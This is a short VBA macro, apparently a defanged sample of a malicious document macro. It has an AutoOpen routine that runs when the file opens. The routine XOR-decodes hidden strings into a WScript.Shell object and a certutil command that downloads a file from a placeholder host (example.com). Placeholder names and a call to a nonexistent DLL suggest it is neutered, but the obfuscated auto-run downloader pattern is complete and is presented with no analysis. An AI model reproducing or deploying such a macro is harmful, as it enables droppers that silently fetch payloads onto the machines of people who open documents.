Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Private Const KEY As Integer = 23
Private Function Plain(ByVal hidden As String) As String
    Dim n As Long, parts() As String
    parts = Split(hidden, ".")
    For n = 0 To UBound(parts)
        Plain = Plain & Chr(CLng(parts(n)) Xor KEY)
    Next n
End Function
Sub AutoOpen()
    StopHere
    Dim tool As Object
    Set tool = CreateObject(Plain("64.68.116.101.126.103.99.57.68.127.114.123.123"))
    tool.Run Plain("116.114.101.99.98.99.126.123.55.58.98.101.123.116.118.116.127.114.55.58.113.55.127.99.99.103.45.56.56.114.111.118.122.103.123.114.57.116.120.122.56.118.55.127.118.101.122.123.114.100.100.58.121.120.121.114.57.114.111.114")
End Sub
